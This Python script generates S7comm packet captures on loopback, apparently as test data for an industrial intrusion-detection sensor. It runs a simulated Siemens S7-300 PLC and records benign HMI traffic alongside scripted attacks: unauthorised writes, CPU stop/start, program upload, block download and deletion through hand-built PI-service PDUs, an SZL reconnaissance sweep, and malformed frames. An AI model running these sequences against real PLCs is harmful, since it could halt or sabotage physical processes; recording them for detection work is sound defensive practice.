"""Record S7comm captures: a real python-snap7 "PLC" (its pure-Python server)
and the python-snap7 client on loopback, benign engineering/HMI traffic and
attacks from 127.0.0.66.

Run from the repository root (as root: port 102 is privileged and dumpcap
needs capture rights)::

    python -m pcaps.record.s7comm [--out-dir pcaps/s7comm] [--only NAME ...]

The victim is python-snap7 3.x's ``snap7.server.Server`` on 127.0.0.1:102,
started fresh for every capture, with DB1 (64 bytes 0..63), DB2 (32 bytes),
the flags (M) and outputs (Q). One thing is configured: its answers to the
identification SZL lists 0x0011, 0x001C and 0x0424 are given in the record
layout of a real CPU 315-2 PN/DP (python-snap7's own 0x0011 answer uses
26-byte records, which Wireshark 4.0 dissects as malformed). Everything else
on the wire is the stack's.

Requests go through the snap7 client where it can send them. Where it
cannot, hand-built S7 PDUs go through the same client connection with
``iso_exchange_buffer`` (the stack frames them in TPKT/COTP): block
activation and deletion (_INSE/_DELE PI services in the standard layout;
python-snap7 3.3's ``delete()`` builds a _DELE that Wireshark reads as
malformed, kept in the malformed capture), and the malformed S7 PDUs. Broken
TPKT/COTP framing is written straight to the client's socket after a real
COTP connect and setup. Every response is checked, so a behaviour change in
python-snap7 makes the script fail instead of producing different captures.

S7comm-plus has no open Python stack: its frames are built by hand in the
tests (tests/sensor/protocols/test_s7comm_plus.py).
"""

from __future__ import annotations

import argparse
import logging
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from unittest import mock

import snap7.client
from snap7.client import Client
from snap7.connection import ISOTCPConnection
from snap7.error import S7Error
from snap7.server import Server
from snap7.type import Area, Block, SrvArea

from pcaps.record.capture import record

log = logging.getLogger("pcaps.record.s7comm")

HOST = "127.0.0.1"
PORT = 102
#: The plant's HMI / engineering station.
MASTER = "127.0.0.1"
#: An unknown host on the control network.
ATTACKER = "127.0.0.66"
BPF_FILTER = f"tcp port {PORT} and host {HOST}"
#: Rack 0, slot 2: the CPU of an S7-300 station.
RACK, SLOT = 0, 2

DB1 = bytes(range(64))
DB2_SIZE = 32

# The identity a real CPU 315-2 PN/DP reports (SZL 0x0011: 28-byte records;
# 0x001C: 34-byte records), as Siemens' "System Software for S7-300/400
# System and Standard Functions" manual lays them out.
ORDER_NUMBER = b"6ES7 315-2EH14-0AB0 "
FIRMWARE = (0x5603, 0x0200)  # V3.2.0
IDENTITY_TEXTS = {
    0x0001: b"SIMATIC 300(1)",
    0x0002: b"PLC_LINE3",
    0x0003: b"",
    0x0004: b"Original Siemens Equipment",
    0x0005: b"S C-H4R912342012",
    0x0007: b"CPU 315-2 PN/DP",
    0x0008: b"MMC 2B0A1F7C",
}
TEXT_LENGTHS = {1: 24, 2: 24, 3: 32, 4: 26, 5: 24, 7: 32, 8: 32}


def szl_0011() -> bytes:
    records = [
        struct.pack(">H20sHHH", 0x0001, ORDER_NUMBER, 0x0003, 0x2020, 0x0003),
        struct.pack(">H20sHHH", 0x0006, ORDER_NUMBER, 0x0003, 0x2020, 0x0003),
        struct.pack(">H20sHHH", 0x0007, b" " * 20, 0x0000, *FIRMWARE),
    ]
    return struct.pack(">HH", 28, len(records)) + b"".join(records)


def szl_001c() -> bytes:
    records = []
    for index, text in IDENTITY_TEXTS.items():
        length = TEXT_LENGTHS[index]
        records.append(struct.pack(">H", index) + text.ljust(length, b"\0").ljust(32, b"\0"))
    records.append(struct.pack(">HHHH", 0x0009, 0x002A, 0xF600, 0x0001) + bytes(26))
    return struct.pack(">HH", 34, len(records)) + b"".join(records)


def szl_0424() -> bytes:
    # Mode transition record: event 0x4304 (RUN), requested/previous mode.
    record = struct.pack(">HBBBB", 0x5104, 0xFF, 0x08, 0x08, 0x00) + bytes(14)
    return struct.pack(">HH", 20, 1) + record[:20]


class VictimServer(Server):  # type: ignore[misc]
    """python-snap7's server with a real CPU's identification lists."""

    def _get_szl_data(self, szl_id: int, szl_index: int) -> bytes | None:
        if szl_id == 0x0011:
            return szl_0011()
        if szl_id == 0x001C:
            return szl_001c()
        if szl_id == 0x0424:
            return szl_0424()
        data: bytes | None = super()._get_szl_data(szl_id, szl_index)
        return data


@contextmanager
def victim() -> Iterator[VictimServer]:
    server = VictimServer(log=False)
    server.host = HOST  # loopback only
    server.register_area(SrvArea.DB, 1, bytearray(DB1))
    server.register_area(SrvArea.DB, 2, bytearray(DB2_SIZE))
    server.register_area(SrvArea.MK, 0, bytearray(16))
    server.register_area(SrvArea.PA, 0, bytearray(16))
    server.start(PORT)
    try:
        yield server
    finally:
        server.stop()


class _SourcedConnection(ISOTCPConnection):  # type: ignore[misc]
    source = MASTER

    def _tcp_connect(self) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(self.timeout)
        sock.bind((self.source, 0))
        sock.connect((self.host, self.port))
        self.socket = sock


@contextmanager
def client_from(source: str, rack: int = RACK, slot: int = SLOT) -> Iterator[Client]:
    """A snap7 client connected from ``source`` (COTP connect and setup
    communication); disconnected (COTP DR, FIN) afterwards."""
    connection = type("Connection", (_SourcedConnection,), {"source": source})
    with mock.patch.object(snap7.client, "ISOTCPConnection", connection):
        client = Client()
        client.connect(HOST, rack, slot, PORT)
    try:
        name = client.connection.socket.getsockname()[0]
        if name != source:
            raise ConnectionError(f"client bound to {name}, not {source}")
        yield client
    finally:
        client.disconnect()
        time.sleep(0.05)


class UnexpectedResponse(RuntimeError):
    """The stack answered otherwise than the scenario expects: the recording
    stops rather than produce a different capture."""


def expect(condition: bool, what: str) -> None:
    if not condition:
        raise UnexpectedResponse(what)


# -- hand-built S7 PDUs (standard layouts, as Step 7 sends them) -------------------

_pdu_ref = 0x4000


def job(parameters: bytes, data: bytes = b"") -> bytearray:
    global _pdu_ref
    _pdu_ref += 1
    return bytearray(struct.pack(">BBHHHH", 0x32, 1, 0, _pdu_ref, len(parameters), len(data))
                     + parameters + data)


def pi_service(service: bytes, block_params: bytes) -> bytearray:
    """PLC control (0x28): 7 reserved bytes ending 0xFD, the parameter block,
    the PI service name."""
    return job(b"\x28" + bytes(6) + b"\xfd" + struct.pack(">H", len(block_params))
               + block_params + bytes([len(service)]) + service)


def block_list(*blocks: bytes) -> bytes:
    """_INSE/_DELE parameter block: count, 0, then "0A00002P" per block."""
    return bytes([len(blocks), 0]) + b"".join(blocks)


def ack_ok(response: bytearray, function: int) -> bool:
    return len(response) >= 13 and response[1] == 3 and response[10:12] == b"\0\0" \
        and response[12] == function


# -- scenarios --------------------------------------------------------------------


def read_write(server: VictimServer) -> None:
    """HMI polling: reads of DB1 and the flags, writes of DB2 and the flags,
    a read of a DB that does not exist (item error 0x0A)."""
    with client_from(MASTER) as client:
        expect(client.db_read(1, 0, 8) == bytearray(DB1[:8]), "DB1.DBB0..7")
        code, values = client.read_multi_vars([
            {"area": Area.DB, "db_number": 1, "start": 10, "size": 4},
            {"area": Area.MK, "db_number": 0, "start": 0, "size": 2},
        ])
        expect(code == 0 and values[0] == bytearray(DB1[10:14]), "multi-var read")
        client.db_write(2, 4, bytearray(b"\x01\x02\x03\x04"))
        client.mb_write(0, 2, bytearray(b"\x12\x34"))
        expect(client.mb_read(0, 2) == bytearray(b"\x12\x34"), "MB0..1 read back")
        try:
            client.db_read(9, 0, 4)
            raise UnexpectedResponse("DB9 read succeeded")
        except S7Error as exc:
            expect("0x0a" in str(exc), f"DB9 read failed otherwise: {exc}")
        expect(client.db_read(1, 0, 64) == bytearray(DB1), "all of DB1")
    expect(server.memory_areas[(0x84, 2)][4:8] == bytearray(b"\x01\x02\x03\x04"), "DB2")


def identity(server: VictimServer) -> None:
    """Engineering station asks who the PLC is: SZL 0x0011 (order number,
    firmware), 0x001C (names, serial number), 0x0424 (CPU state), the block
    lists, block info of DB1 and the clock."""
    with client_from(MASTER) as client:
        order = client.get_order_code()
        expect(order.OrderCode.startswith(b"6ES7 315"), f"order code {order.OrderCode!r}")
        info = client.get_cpu_info()
        expect(info.ModuleTypeName.startswith(b"CPU 315"), f"cpu info {info.ModuleTypeName!r}")
        state = client.read_szl(0x0424, 0)
        expect(state.Header.NDR == 1, "SZL 0x0424")
        blocks = client.list_blocks()
        expect(blocks.DBCount == 2, f"{blocks.DBCount} DBs")
        expect(client.list_blocks_of_type(Block.DB, 10) == [1, 2], "DB list")
        client.get_block_info(Block.DB, 1)
        client.get_plc_datetime()


def unauthorised_write(server: VictimServer) -> None:
    """An unknown host overwrites DB1, the outputs and the flags."""
    with client_from(ATTACKER) as client:
        client.db_write(1, 0, bytearray(b"\xde\xad\xbe\xef"))
        client.ab_write(0, bytearray(b"\xff\xff"))
        client.mb_write(4, 1, bytearray(b"\x01"))
    expect(server.memory_areas[(0x84, 1)][:4] == bytearray(b"\xde\xad\xbe\xef"), "DB1")


def plc_stop(server: VictimServer) -> None:
    """An unknown host stops the CPU (function 0x29, P_PROGRAM)."""
    with client_from(ATTACKER) as client:
        client.plc_stop()
    expect(server.cpu_state == 8 or int(server.cpu_state) == 0x04, "CPU stopped")


def plc_start(server: VictimServer) -> None:
    """An unknown host stops the CPU, then hot-starts and cold-starts it
    (PI service P_PROGRAM, the cold start with argument "C ")."""
    with client_from(ATTACKER) as client:
        client.plc_stop()
        client.plc_hot_start()
        client.plc_cold_start()


def block_upload(server: VictimServer) -> None:
    """Program theft: list the blocks, then upload DB1 and DB2 (start
    upload, upload, end upload each)."""
    with client_from(ATTACKER) as client:
        client.list_blocks()
        data, _size = client.full_upload(Block.DB, 1)
        expect(bytes(data).endswith(DB1), "DB1 uploaded")
        client.full_upload(Block.DB, 2)


def block_download(server: VictimServer) -> None:
    """An unknown host downloads a new DB2 (request download; the PLC asks
    for the block and the client answers; download ended) and activates it
    with the _INSE PI service."""
    payload = bytearray(b"\x42" * 16)
    with client_from(ATTACKER) as client:
        client.download(payload, 2)
        response = client.iso_exchange_buffer(
            pi_service(b"_INSE", block_list(b"0A00002P")))
        expect(ack_ok(response, 0x28), f"_INSE answered {bytes(response).hex()}")
    expect(server.memory_areas[(0x84, 2)][:16] == payload, "DB2 downloaded")


def block_delete(server: VictimServer) -> None:
    """An unknown host deletes DB2 and DB1 (_DELE PI service, two blocks)."""
    with client_from(ATTACKER) as client:
        response = client.iso_exchange_buffer(
            pi_service(b"_DELE", block_list(b"0A00002B", b"0A00001B")))
        expect(ack_ok(response, 0x28), f"_DELE answered {bytes(response).hex()}")


SZL_SWEEP = (0x0000, 0x0011, 0x0012, 0x0013, 0x0014, 0x0015, 0x0019, 0x001C, 0x0022, 0x0025,
             0x0037, 0x0074, 0x0091, 0x0092, 0x00A0, 0x0111, 0x011C, 0x0131, 0x0132, 0x0222,
             0x0232, 0x0424, 0x0A91)


def szl_sweep(server: VictimServer) -> None:
    """Reconnaissance: one host reads 23 SZL partial lists in a row; the PLC
    knows 7 of them and answers the others with an error."""
    with client_from(ATTACKER) as client:
        answered = 0
        for szl_id in SZL_SWEEP:
            try:
                client.read_szl(szl_id, 1 if szl_id in (0x0131, 0x0132) else 0)
                answered += 1
            except (RuntimeError, S7Error):
                continue
        expect(answered == 6, f"{answered} SZL lists answered")


def malformed(server: VictimServer) -> None:
    """Broken PDUs from an unknown host. Connection 1 (after a real COTP
    connect and setup): an S7 job whose header lengths disagree with the PDU,
    a job with unknown function 0x33, a PDU with ROSCTR 9, python-snap7's own
    get_cpu_state (a Read Var job with no item count) and delete() (a _DELE
    whose parameter block length runs past the PDU). Connection 2: a COTP
    data TPDU with length indicator 9 in a 7-byte TPKT. Connection 3: a TPKT
    of version 2."""
    with client_from(ATTACKER) as client:
        pdu = job(b"\x04\x01\x12\x0a\x10\x02\x00\x04\x00\x01\x84\x00\x00\x00")
        pdu[7] = 20  # parameter length 20, 14 sent
        client.connection.send_data(bytes(pdu))
        time.sleep(0.2)
        response = client.iso_exchange_buffer(job(b"\x33\x00\x00"))
        expect(response[1] == 2 and response[10:12] == b"\x80\x01", "unknown function refused")
        client.connection.send_data(bytes(struct.pack(">BBHHHH", 0x32, 9, 0, 0x4444, 0, 0)))
        time.sleep(0.2)
        client.get_cpu_state()
        client.delete(Block.DB, 2)
    with client_from(ATTACKER) as client:
        client.connection.socket.sendall(b"\x03\x00\x00\x07\x09\xf0\x80")
        time.sleep(0.3)
    with client_from(ATTACKER) as client:
        client.connection.socket.sendall(b"\x02\x00\x00\x16" + bytes(18))
        time.sleep(0.3)


SCENARIOS: dict[str, Callable[[VictimServer], None]] = {
    "read-write": read_write,
    "identity": identity,
    "attack-unauthorised-write": unauthorised_write,
    "attack-plc-stop": plc_stop,
    "attack-plc-start": plc_start,
    "attack-block-upload": block_upload,
    "attack-block-download": block_download,
    "attack-block-delete": block_delete,
    "attack-szl-sweep": szl_sweep,
    "attack-malformed": malformed,
}


def record_all(out_dir: Path, only: Sequence[str]) -> None:
    unknown = set(only) - set(SCENARIOS)
    if unknown:
        raise SystemExit(f"unknown capture(s): {', '.join(sorted(unknown))}")
    for name, scenario in SCENARIOS.items():
        if only and name not in only:
            continue
        path = out_dir / f"{name}.pcapng"
        with victim() as server, record(path, BPF_FILTER):
            scenario(server)
        log.info("recorded %s (%d bytes)", path, path.stat().st_size)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m pcaps.record.s7comm",
                                     description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--out-dir", type=Path, default=Path("pcaps/s7comm"))
    parser.add_argument("--only", nargs="*", default=(), metavar="NAME",
                        help=f"captures to record: {', '.join(SCENARIOS)}")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(name)s: %(message)s")
    logging.getLogger("snap7").setLevel(logging.CRITICAL)
    record_all(args.out_dir, args.only)
    return 0


if __name__ == "__main__":
    sys.exit(main())
